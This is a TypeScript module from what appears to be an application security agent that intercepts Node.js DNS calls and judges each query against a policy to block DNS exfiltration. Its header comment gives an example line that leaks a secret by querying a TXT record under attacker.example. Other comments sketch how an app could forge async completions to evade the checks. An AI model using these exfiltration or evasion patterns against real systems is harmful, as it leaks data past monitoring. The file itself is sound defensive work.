/**
 * DNS (contract §1 `network`, operation `dns`, target = the name queried). A query is itself
 * outbound traffic: `resolveTxt('<secret>.attacker.example')` exfiltrates through any resolver.
 *
 * - Public APIs, so a denial fails the way each API fails (callback error on the next tick,
 *   rejected promise, or a throw for the synchronous `setServers`): `dns.lookup`, `lookupService`,
 *   every `resolve*`/`reverse` of `dns.Resolver.prototype` and `dns.promises.Resolver.prototype`
 *   (so every Resolver instance), the module-level bound copies of them (`dns.resolveTxt`...,
 *   bound to the original methods at load), and `setServers` (a new DNS server is a new UDP peer).
 * - The cares_wrap binding as the safety net and the place we learn addresses: `getaddrinfo`,
 *   `getnameinfo`, every `ChannelWrap.prototype.query*`, `getHostByAddr` and `setServers`.
 * A lookup Node makes for a connect that was already judged by name (see network/intents.ts) is not
 * judged again.
 */
import type { Operation } from '@appdefender/policy';
import { isAgentWork } from '../agent-work.js';
import { getBinding, patchMethod, substituteForApp } from '../bindings.js';
import { loadForAgent, whenBuiltinLoaded } from '../builtin-loads.js';
import { builtin } from '../builtins.js';
import type { AgentContext } from '../context.js';
import { judge } from '../enforce.js';
import { apply, isArray, matches, regExpExec } from '../intrinsics.js';
import { learnAddresses, resolveAllowedNames } from '../network/address-learning.js';
import { UV_EACCES } from '../network/errno.js';
import { callJudged, isJudgedHost } from '../network/intents.js';
import { dnsOp, networkOp } from '../network/operations.js';
import type { HookDescriptor } from './registry.js';

type AnyFunction = (this: unknown, ...args: unknown[]) => unknown;

export const hook: HookDescriptor = { name: 'dns', category: 'network', install };

// loaded at install, not at agent load (see builtins.ts)
let net: typeof import('node:net');
// captured at install: the app could replace net.isIP later
let isIP: (input: string) => number;
// captured at install, to tell a request's real completion from a forged one (learnOnComplete)
let executionAsyncId: () => number;
let asyncIdOf: AnyFunction | undefined;

/** Resolver methods and the record type each queries (for the event's rrtype). */
const RESOLVER_METHODS: Readonly<Record<string, string>> = {
  resolve: 'A',
  resolve4: 'A',
  resolve6: 'AAAA',
  resolveAny: 'ANY',
  resolveCaa: 'CAA',
  resolveCname: 'CNAME',
  resolveMx: 'MX',
  resolveNaptr: 'NAPTR',
  resolveNs: 'NS',
  resolvePtr: 'PTR',
  resolveSoa: 'SOA',
  resolveSrv: 'SRV',
  resolveTxt: 'TXT',
  reverse: 'PTR',
};

const BINDING_QUERIES: Readonly<Record<string, string>> = {
  queryAny: 'ANY',
  queryA: 'A',
  queryAaaa: 'AAAA',
  queryCaa: 'CAA',
  queryCname: 'CNAME',
  queryMx: 'MX',
  queryNs: 'NS',
  queryTxt: 'TXT',
  querySrv: 'SRV',
  queryPtr: 'PTR',
  queryNaptr: 'NAPTR',
  querySoa: 'SOA',
  getHostByAddr: 'PTR',
};

/**
 * Every query method this Node has, not only the ones we know: a release that adds a record type
 * (Node 22.15 added `resolveTlsa`/`queryTlsa`) must not open an unjudged road for DNS exfiltration.
 * Read at install, before any application code runs.
 */
export function resolverMethods(prototype: object): Record<string, string> {
  const methods: Record<string, string> = { ...RESOLVER_METHODS };
  for (const name of Object.getOwnPropertyNames(prototype)) {
    if (!(name in methods) && /^resolve[A-Z0-9]/.test(name)) methods[name] = name.slice(7).toUpperCase();
  }
  return methods;
}

export function bindingQueries(prototype: object | undefined): Record<string, string> {
  const methods: Record<string, string> = { ...BINDING_QUERIES };
  for (const name of prototype ? Object.getOwnPropertyNames(prototype) : []) {
    if (!(name in methods) && /^query[A-Z]/.test(name)) methods[name] = name.slice(5).toUpperCase();
  }
  return methods;
}

let context: AgentContext;

function install(agentContext: AgentContext): void {
  net = builtin<typeof import('node:net')>('node:net');
  isIP = net.isIP;
  executionAsyncId = builtin<typeof import('node:async_hooks')>('node:async_hooks').executionAsyncId;
  context = agentContext;
  patchBinding();
  substituteForApp('async_wrap', appFacingAsyncWrap);
  // the module when it loads, if ever (net loads it for its first lookup): the binding above judges
  // every query until then
  let originalLookup: typeof import('node:dns').lookup | undefined;
  whenBuiltinLoaded(['dns', 'dns/promises'], () => {
    const dns = builtin<typeof import('node:dns')>('node:dns');
    originalLookup = dns.lookup;
    patchMethod(dns, 'lookup', (original) => wrapCallbackQuery(original, lookupQuery));
    patchMethod(dns, 'lookupService', (original) => wrapCallbackQuery(original, lookupServiceQuery));
    patchMethod(dns.promises, 'lookup', (original) => wrapPromiseQuery(original, lookupQuery));
    patchMethod(dns.promises, 'lookupService', (original) => wrapPromiseQuery(original, lookupServiceQuery));
    for (const [method, rrtype] of Object.entries(resolverMethods(dns.Resolver.prototype))) {
      const query = resolverQuery(method, rrtype);
      patchMethod(dns.Resolver.prototype, method, (original) => wrapCallbackQuery(original, query));
      patchMethod(dns, method, (original) => wrapCallbackQuery(original, query));
      patchMethod(dns.promises.Resolver.prototype, method, (original) => wrapPromiseQuery(original, query));
      patchMethod(dns.promises, method, (original) => wrapPromiseQuery(original, query));
    }
    // dns.setServers / dns.promises.setServers go through a new Resolver's setServers
    patchMethod(Object.getPrototypeOf(dns.Resolver.prototype) as object, 'setServers', wrapSetServers);
  });
  // Node's own lookup, as the module had it before any application code could replace it: loading
  // the module runs the patch above, which keeps it. None if an app kept the patch from running;
  // the allowed names are then learned only from the app's own lookups (denies more, never less).
  resolveAllowedNames(context, () => {
    if (!originalLookup) loadForAgent('dns');
    return originalLookup;
  });
}

/** What a public call queries: the op to judge, or undefined to leave the call to Node as it is. */
type QueryOf = (args: unknown[]) => Operation | undefined;

function lookupQuery(args: unknown[]): Operation | undefined {
  // by index, not destructuring: destructuring asks the (replaceable) array iterator
  const hostname = args[0];
  // no query for an IP literal or an empty name; Node answers those itself. The name a connect was
  // just judged for is checked first: it is the common case, and isIP runs two regular expressions
  if (typeof hostname !== 'string' || hostname === '' || isJudgedHost(hostname) || isIP(hostname)) {
    return undefined;
  }
  return dnsOp(hostname, undefined);
}

function lookupServiceQuery(args: unknown[]): Operation | undefined {
  const address = args[0];
  if (typeof address !== 'string' || !isIP(address)) return undefined;
  return dnsOp(address, 'PTR');
}

function resolverQuery(method: string, rrtype: string): QueryOf {
  return (args) => {
    const name = args[0];
    const second = args[1];
    if (typeof name !== 'string' || isJudgedHost(name)) return undefined;
    const type = method === 'resolve' && typeof second === 'string' ? second : rrtype;
    return dnsOp(name, type);
  };
}

function hostOf(op: Operation): string | undefined {
  return op.category === 'network' && op.operation === 'dns' ? op.host : undefined;
}

function wrapCallbackQuery(original: AnyFunction, queryOf: QueryOf): AnyFunction {
  return function query(this: unknown, ...args: unknown[]) {
    if (isAgentWork()) return apply(original, this, args);
    const op = queryOf(args);
    const callback = args[args.length - 1];
    if (!op || typeof callback !== 'function') return apply(original, this, args);
    const { error } = judge(op);
    if (error) {
      process.nextTick(callback as AnyFunction, error);
      return {};
    }
    return callJudged(hostOf(op), original, this, args);
  };
}

function wrapPromiseQuery(original: AnyFunction, queryOf: QueryOf): AnyFunction {
  return function query(this: unknown, ...args: unknown[]) {
    if (isAgentWork()) return apply(original, this, args);
    const op = queryOf(args);
    if (!op) return apply(original, this, args);
    const { error } = judge(op);
    if (error) return Promise.reject(error);
    return callJudged(hostOf(op), original, this, args);
  };
}

/** `host`, `host:port`, `[v6]`, `[v6]:port` → address and port, as Node's setServers reads them. */
export function parseServer(server: string): { ip: string; port: number } | undefined {
  if (matches(IPV4, server) || matches(IPV6, server)) return { ip: server, port: 53 };
  const bracketed = regExpExec(BRACKETED, server);
  if (bracketed?.[1]) return { ip: bracketed[1], port: bracketed[2] ? Number(bracketed[2]) : 53 };
  const withPort = regExpExec(WITH_PORT, server);
  if (withPort?.[1] && withPort[2]) return { ip: withPort[1], port: Number(withPort[2]) };
  return undefined;
}

// shapes only: Node's setServers validates the addresses itself and rejects what is not one
const IPV4 = /^\d{1,3}(?:\.\d{1,3}){3}$/;
const IPV6 = /^[0-9a-f]*:[0-9a-f:.]*$/i;
const BRACKETED = /^\[([^\]]+)\](?::(\d+))?$/;
const WITH_PORT = /^([^:]+):(\d+)$/;

/** The `ip:port` pairs the public setServers in progress judged, for the binding not to judge again. */
let judgedServers: string[] | undefined;

function wrapSetServers(original: AnyFunction): AnyFunction {
  return function setServers(this: unknown, ...args: unknown[]) {
    const servers = args[0];
    if (isAgentWork() || !isArray(servers)) return apply(original, this, args);
    const judged: string[] = [];
    for (let i = 0; i < servers.length; i++) {
      const server = servers[i];
      const parsed = typeof server === 'string' ? parseServer(server) : undefined;
      if (!parsed) continue; // Node rejects it with its own error; the binding hook judges what gets through
      const { error } = judge(networkOp('connect', 'udp', undefined, parsed.ip, parsed.port), {
        api: 'dns.setServers',
      });
      if (error) throw error;
      judged[judged.length] = `${parsed.ip}:${parsed.port}`;
    }
    const previous = judgedServers;
    judgedServers = judged;
    try {
      return apply(original, this, args);
    } finally {
      judgedServers = previous;
    }
  };
}

function wasJudged(ip: string, port: unknown): boolean {
  if (!judgedServers) return false;
  const pair = `${ip}:${String(port)}`;
  for (let i = 0; i < judgedServers.length; i++) if (judgedServers[i] === pair) return true;
  return false;
}

function patchBinding(): void {
  const cares = getBinding('cares_wrap') as
    | { ChannelWrap?: { prototype: object }; getaddrinfo?: unknown; getnameinfo?: unknown }
    | undefined;
  if (!cares) return;
  const requestPrototype = (cares as { GetAddrInfoReqWrap?: { prototype?: { getAsyncId?: unknown } } })
    .GetAddrInfoReqWrap?.prototype;
  if (typeof requestPrototype?.getAsyncId === 'function')
    asyncIdOf = requestPrototype.getAsyncId as AnyFunction;
  patchMethod(
    cares,
    'getaddrinfo',
    (original) =>
      function getaddrinfo(this: unknown, ...args: unknown[]) {
        const request = args[0];
        const hostname = args[1];
        if (typeof hostname === 'string') learnOnComplete(request, hostname);
        if (isAgentWork() || typeof hostname !== 'string' || isJudgedHost(hostname)) {
          return apply(original, this, args);
        }
        const { error } = judge(dnsOp(hostname, undefined));
        return error ? UV_EACCES : apply(original, this, args);
      },
  );
  patchMethod(
    cares,
    'getnameinfo',
    (original) =>
      function getnameinfo(this: unknown, ...args: unknown[]) {
        const address = args[1];
        if (isAgentWork() || typeof address !== 'string') return apply(original, this, args);
        const { error } = judge(dnsOp(address, 'PTR'));
        return error ? UV_EACCES : apply(original, this, args);
      },
  );
  const channel = cares.ChannelWrap?.prototype;
  for (const [method, rrtype] of Object.entries(bindingQueries(channel))) {
    patchMethod(
      channel,
      method,
      (original) =>
        function query(this: unknown, ...args: unknown[]) {
          const name = args[1];
          if (isAgentWork() || typeof name !== 'string' || isJudgedHost(name)) {
            return apply(original, this, args);
          }
          const { error } = judge(dnsOp(name, rrtype));
          return error ? UV_EACCES : apply(original, this, args);
        },
    );
  }
  patchMethod(
    channel,
    'setServers',
    (original) =>
      function setServers(this: unknown, ...args: unknown[]) {
        const entries = args[0];
        if (isAgentWork() || !isArray(entries)) return apply(original, this, args);
        // judge and pass on a copy of plain values: the app's array could answer differently
        // to our reads and to the binding's (getters, a Proxy)
        const copy: unknown[] = [];
        for (let i = 0; i < entries.length; i++) {
          const entry = entries[i];
          if (!isArray(entry)) return apply(original, this, args); // the binding rejects it itself
          const family = entry[0];
          const ip = entry[1];
          const port = entry[2];
          if (typeof ip !== 'string') return apply(original, this, args);
          if (!wasJudged(ip, port)) {
            const op = networkOp(
              'connect',
              'udp',
              undefined,
              ip,
              typeof port === 'number' ? port : undefined,
            );
            if (judge(op, { api: 'setServers' }).error) return UV_EACCES;
          }
          copy[i] = [family, ip, port];
        }
        return apply(original, this, withFirst(args, copy));
      },
  );
}

/** `args` with its first element replaced, copied by index (no array iterator). */
function withFirst(args: unknown[], first: unknown): unknown[] {
  const copy: unknown[] = [first];
  for (let i = 1; i < args.length; i++) copy[i] = args[i];
  return copy;
}

/**
 * Only names that are granted by name (allowedDomains, cloud endpoints, the runtime) can grant an
 * address; the answers for observed names tell whether an observed connection went where its name
 * resolves (address-learning.ts, observedAnswers); denied names are never dialled.
 */
function nameVerdict(hostname: string): string | undefined {
  try {
    return context.decider.decide(dnsOp(hostname, undefined)).verdict;
  } catch {
    return undefined;
  }
}

/**
 * Learns the answer of a system-resolver lookup when it completes (see address-learning.ts).
 *
 * The wrapper sits on the request, where the app can reach it (async_hooks hands out the request),
 * and a function the app holds can be run with nothing under it on the stack: bound, as a promise
 * reaction, V8 runs it from the microtask checkpoint Node makes from C++ after a callback. So the
 * stack alone does not tell the real completion: that one runs in the request's own async context
 * (libuv's callback, through MakeCallback), which no microtask or other callback does. Checked when
 * something is learned only.
 */
function runsAsItsOwnCompletion(request: object): boolean {
  try {
    // the request's id is assigned when it is dispatched, so it is read now
    const id = apply(asyncIdOf as AnyFunction, request, []);
    return typeof id === 'number' && id > 0 && executionAsyncId() === id;
  } catch {
    return false; // not a real request: its completion would never come from libuv
  }
}

/**
 * The app's `process.binding('async_wrap')`. Node keeps the async context in typed arrays on that
 * binding (`async_id_fields[kExecutionAsyncId]`, the saved ids in `async_ids_stack`...), which the
 * real object hands out writable, with the functions that push, pop and clear it and the trampoline
 * every callback from C++ goes through: an app writing them made a forged completion, run as a
 * promise reaction with nothing under it, look like the request's own (runsAsItsOwnCompletion), so
 * that an allowed name vouched for any address (test/redteam-round7-roads.test.ts). The copy keeps
 * the constants (copied) and copies of the typed arrays as they were at start; no function of the
 * binding. Node's own modules keep the real object.
 */
function appFacingAsyncWrap(real: Record<string, unknown>): object {
  const copy: Record<string, unknown> = {};
  const keys = Object.keys(real);
  for (let i = 0; i < keys.length; i++) {
    const key = keys[i] as string;
    const value = real[key];
    if (typeof value === 'function') continue;
    if (ArrayBuffer.isView(value)) copy[key] = (value as unknown as { slice(): unknown }).slice();
    else if (Array.isArray(value)) copy[key] = [];
    else if (value !== null && typeof value === 'object') copy[key] = { ...(value as object) };
    else copy[key] = value;
  }
  return copy;
}

function learnOnComplete(request: unknown, hostname: string): void {
  if (!request || typeof request !== 'object' || !asyncIdOf) return;
  const verdict = nameVerdict(hostname);
  if (verdict !== 'grant' && verdict !== 'observe') return;
  const observed = verdict === 'observe';
  const target = request as { oncomplete?: unknown };
  const oncomplete = target.oncomplete;
  if (typeof oncomplete !== 'function') return;
  target.oncomplete = function learnThenComplete(this: unknown, ...args: unknown[]) {
    const status = args[0];
    const addresses = args[1];
    if (!status && this === request && runsAsItsOwnCompletion(request)) {
      try {
        learnAddresses(context, hostname, addresses, observed);
      } catch {
        // learning is an optimisation of later verdicts; the lookup's own result is what matters
      }
    }
    return apply(oncomplete, this, args);
  };
}
